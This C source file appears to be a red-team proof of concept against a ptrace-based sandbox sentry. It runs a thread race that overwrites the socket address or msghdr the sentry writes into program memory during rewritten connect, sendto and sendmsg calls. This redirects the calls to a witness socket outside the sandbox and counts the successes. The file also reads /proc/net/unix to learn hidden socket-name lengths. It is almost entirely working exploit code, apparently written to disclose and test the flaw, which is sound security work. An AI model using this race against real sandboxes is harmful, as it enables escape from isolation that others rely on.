/*
 * Route 1 of issue 15: racing the address the sentry writes into the program's memory.
 *
 *   race WITNESS_DIR TOKEN ATTEMPTS [control]
 *
 * A rewritten connect, sendto or sendmsg has its destination (the hidden kernel name of a
 * sandbox socket, and for sendmsg a copy of the msghdr) written at
 * (rsp - 128 - size) & ~15 of the calling thread (ptrace-platform TrappedCall.scratch),
 * where the program's other threads can write. Thread A makes each call on a stack of
 * known place (so the area is known without guessing); racer threads keep writing the
 * witness's sockaddr (and for sendmsg a msghdr pointing at it) over that area. Each call
 * that reaches the witness is an arrival, counted by the witness.
 *
 * Variants, ATTEMPTS calls each: connect to a sandbox stream listener by path and by
 * abstract name; sendto and sendmsg to a sandbox datagram socket by path and abstract name.
 * The size the sentry writes is the hidden name's: read from /proc/net/unix by the
 * socket's inode (the names are listed there today), else the sandbox name's own length.
 *
 * "control" (run natively): thread A writes the sandbox name (or msghdr) into that same
 * area itself and passes it to the kernel, as the sentry does: the witness counting
 * arrivals then shows that the racers win such a race.
 */
#include "redteam.h"

#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#define MSGHDR_SIZE 56
#define RED_ZONE 128

static char attack_stack[1 << 16] __attribute__((aligned(4096)));
static uintptr_t stack_top;

/* What the racers write, where, while `racing` is set. */
static atomic_int racing, stop_racers;
static unsigned char *name_target;
static struct rt_addr witness_name;
static unsigned char *header_target;
static struct msghdr witness_header;
static struct iovec witness_iov;
static char byte = 'x';

/* A syscall made with rsp = STACK, so the sentry's scratch area is where the racers write. */
static long syscall_on(uintptr_t stack, long number, long a1, long a2, long a3, long a4, long a5, long a6) {
    long result;
    register long r10 __asm__("r10") = a4;
    register long r8 __asm__("r8") = a5;
    register long r9 __asm__("r9") = a6;
    __asm__ volatile("mov %%rsp, %%r12\n\t"
                     "mov %[stack], %%rsp\n\t"
                     "syscall\n\t"
                     "mov %%r12, %%rsp\n\t"
                     : "=a"(result)
                     : "a"(number), "D"(a1), "S"(a2), "d"(a3), "r"(r10), "r"(r8), "r"(r9), [stack] "r"(stack)
                     : "rcx", "r11", "r12", "memory", "cc");
    return result;
}

static void *name_racer(void *unused) {
    (void)unused;
    while (!atomic_load_explicit(&stop_racers, memory_order_relaxed)) {
        if (!atomic_load_explicit(&racing, memory_order_acquire)) continue;
        volatile unsigned char *to = name_target;
        const unsigned char *from = (const unsigned char *)&witness_name.sun;
        for (socklen_t i = 0; i < witness_name.length; i++) to[i] = from[i];
    }
    return NULL;
}

static void *header_racer(void *unused) {
    (void)unused;
    while (!atomic_load_explicit(&stop_racers, memory_order_relaxed)) {
        if (!atomic_load_explicit(&racing, memory_order_acquire) || header_target == NULL) continue;
        volatile unsigned char *to = header_target;
        const unsigned char *from = (const unsigned char *)&witness_header;
        for (size_t i = 0; i < sizeof witness_header; i++) to[i] = from[i];
    }
    return NULL;
}

static void *accept_loop(void *listener) {
    for (;;) {
        int fd = accept(*(int *)listener, NULL, NULL);
        if (fd >= 0) close(fd);
        else if (errno != EINTR && errno != ECONNABORTED) return NULL;
    }
}

static void *receive_loop(void *receiver) {
    char bytes[64];
    for (;;) {
        if (recv(*(int *)receiver, bytes, sizeof bytes, 0) < 0 && errno != EINTR) return NULL;
    }
}

/* The length of the hidden name /proc/net/unix lists for SOCKET's inode, or 0. */
static socklen_t listed_length(int fd) {
    struct stat st;
    if (fstat(fd, &st) < 0) return 0;
    FILE *table = fopen("/proc/net/unix", "r");
    if (table == NULL) return 0;
    char line[512];
    socklen_t length = 0;
    while (fgets(line, sizeof line, table) != NULL) {
        unsigned long inode;
        int path_at = 0;
        if (sscanf(line, "%*s %*s %*s %*s %*s %*s %lu %n", &inode, &path_at) < 1 || inode != st.st_ino) continue;
        if (path_at == 0) break;
        char *name = line + path_at;
        name[strcspn(name, "\n")] = '\0';
        if (*name == '\0') break;
        /* An abstract name is listed with '@' for its NUL; a path's sockaddr counts its NUL. */
        length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name) + (name[0] == '@' ? 0 : 1));
        break;
    }
    fclose(table);
    return length;
}

struct outcome {
    long attempts, ok, errors[ERRNO_SLOTS];
};

static void print_outcome(const char *variant, socklen_t length, const struct outcome *o) {
    char line[1024];
    int used = snprintf(line, sizeof line, "variant %s size %u attempts %ld ok %ld", variant, (unsigned)length,
                        o->attempts, o->ok);
    for (int e = 1; e < ERRNO_SLOTS; e++) {
        if (o->errors[e] != 0) used += snprintf(line + used, sizeof line - (size_t)used, " %s %ld", errno_name(e), o->errors[e]);
    }
    say("%s\n", line);
}

/* In the control, the time between writing the name and the kernel reading it. Under the
 * sentry it spans the tracer's resume of the thread: context switches, during which the
 * racers run. Here a yield (a racer on this CPU runs) and a few microseconds of spinning. */
static void window(void) {
    sched_yield();
    for (int i = 0; i < 200; i++) __builtin_ia32_pause();
}

static void count(struct outcome *o, long result) {
    o->attempts++;
    if (result >= 0) o->ok++;
    else o->errors[errno_slot((int)-result)]++;
}

/* Races ATTEMPTS calls of KIND ("connect", "sendto", "sendmsg") to the sandbox socket TARGET. */
static long run_variant(const char *variant, const char *kind, struct rt_addr target, int target_fd, long attempts,
                        int control, const char *witness_dir, const char *token) {
    int stream = strcmp(kind, "connect") == 0, message = strcmp(kind, "sendmsg") == 0;
    socklen_t length = control ? 0 : listed_length(target_fd);
    if (length == 0) length = target.length;
    size_t area = message ? MSGHDR_SIZE + 8 + length : length;
    uintptr_t scratch = (stack_top - RED_ZONE - area) & ~(uintptr_t)15;
    unsigned char *name_at = (unsigned char *)scratch + (message ? MSGHDR_SIZE + 8 : 0);

    int abstract = target.sun.sun_path[0] == '\0';
    char kind_letter = stream ? 's' : 'd';
    witness_name = abstract ? rt_witness_abstract(token, kind_letter, length - offsetof(struct sockaddr_un, sun_path))
                            : rt_witness_path(witness_dir, kind_letter);
    if (witness_name.length == 0 || witness_name.length > length) {
        say("variant %s size %u: no witness name fits\n", variant, (unsigned)length);
        return 0;
    }
    witness_iov = (struct iovec){.iov_base = &byte, .iov_len = 1};
    witness_header = (struct msghdr){.msg_name = &witness_name.sun, .msg_namelen = witness_name.length,
                                     .msg_iov = &witness_iov, .msg_iovlen = 1};
    name_target = name_at;
    header_target = message ? (unsigned char *)scratch : NULL;

    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    struct msghdr header = {.msg_name = &target.sun, .msg_namelen = target.length, .msg_iov = &iov, .msg_iovlen = 1};
    struct outcome outcome;
    memset(&outcome, 0, sizeof outcome);
    int sender = stream ? -1 : socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    atomic_store_explicit(&racing, 1, memory_order_release);
    for (long i = 0; i < attempts; i++) {
        long result;
        if (stream) {
            int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
            const void *address = &target.sun;
            if (control) {
                memcpy(name_at, &target.sun, target.length);
                address = name_at;
                window();
            }
            result = syscall_on(scratch + area + RED_ZONE, SYS_connect, fd, (long)address, target.length, 0, 0, 0);
            close(fd);
        } else if (!message) {
            const void *address = &target.sun;
            if (control) {
                memcpy(name_at, &target.sun, target.length);
                address = name_at;
                window();
            }
            result = syscall_on(scratch + area + RED_ZONE, SYS_sendto, sender, (long)&byte, 1, MSG_DONTWAIT,
                                (long)address, target.length);
        } else {
            const void *message_header = &header;
            if (control) {
                struct msghdr copy = header;
                copy.msg_name = name_at;
                memcpy(name_at, &target.sun, target.length);
                memcpy((void *)scratch, &copy, sizeof copy);
                message_header = (void *)scratch;
                window();
            }
            result = syscall_on(scratch + area + RED_ZONE, SYS_sendmsg, sender, (long)message_header, MSG_DONTWAIT,
                                0, 0, 0);
        }
        count(&outcome, result);
    }
    atomic_store_explicit(&racing, 0, memory_order_release);
    if (sender >= 0) close(sender);
    print_outcome(variant, length, &outcome);
    return outcome.attempts;
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: race WITNESS_DIR TOKEN ATTEMPTS [control]\n");
        return 2;
    }
    const char *witness_dir = argv[1], *token = argv[2];
    long attempts = atol(argv[3]);
    int control = argc > 4 && strcmp(argv[4], "control") == 0;
    stack_top = ((uintptr_t)attack_stack + sizeof attack_stack - 4096) & ~(uintptr_t)15;

    /* The sandbox's own sockets: names in a directory of this process, abstract names by pid. */
    char dir[64];
    snprintf(dir, sizeof dir, "/tmp/rt-race-%ld-%s", (long)getpid(), token);
    if (mkdir(dir, 0755) < 0) {
        perror("race: mkdir");
        return 2;
    }
    char path[128];
    struct rt_addr names[4];
    snprintf(path, sizeof path, "%s/listener-of-the-sandbox", dir);
    names[0] = rt_path(path);
    snprintf(path, sizeof path, "%s/datagrams-of-the-sandbox", dir);
    names[2] = rt_path(path);
    for (int i = 1; i < 4; i += 2) {
        memset(&names[i], 0, sizeof names[i]);
        names[i].sun.sun_family = AF_UNIX;
        /* 40 bytes, padded: natively the witness needs an abstract name of this length. */
        int n = snprintf(names[i].sun.sun_path + 1, 40, "rt-race-%ld-%c-", (long)getpid(), i == 1 ? 's' : 'd');
        memset(names[i].sun.sun_path + 1 + n, 'y', 39 - (size_t)n);
        names[i].length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 40);
    }
    int fds[4];
    pthread_t thread;
    for (int i = 0; i < 4; i++) {
        int stream = i < 2;
        fds[i] = socket(AF_UNIX, (stream ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
        if (fds[i] < 0 || bind(fds[i], (struct sockaddr *)&names[i].sun, names[i].length) < 0 ||
            (stream && listen(fds[i], 4096) < 0)) {
            perror("race: sandbox socket");
            return 2;
        }
        pthread_create(&thread, NULL, stream ? accept_loop : receive_loop, &fds[i]);
    }
    pthread_t racers[2];
    pthread_create(&racers[0], NULL, name_racer, NULL);
    pthread_create(&racers[1], NULL, header_racer, NULL);

    long total = 0;
    total += run_variant("connect-path", "connect", names[0], fds[0], attempts, control, witness_dir, token);
    total += run_variant("connect-abstract", "connect", names[1], fds[1], attempts, control, witness_dir, token);
    total += run_variant("sendto-path", "sendto", names[2], fds[2], attempts, control, witness_dir, token);
    total += run_variant("sendto-abstract", "sendto", names[3], fds[3], attempts, control, witness_dir, token);
    total += run_variant("sendmsg-path", "sendmsg", names[2], fds[2], attempts, control, witness_dir, token);
    total += run_variant("sendmsg-abstract", "sendmsg", names[3], fds[3], attempts, control, witness_dir, token);

    atomic_store(&stop_racers, 1);
    pthread_join(racers[0], NULL);
    pthread_join(racers[1], NULL);
    unlink(names[0].sun.sun_path);
    unlink(names[2].sun.sun_path);
    rmdir(dir);
    say("attempts %ld\n", total);
    _exit(0);
}
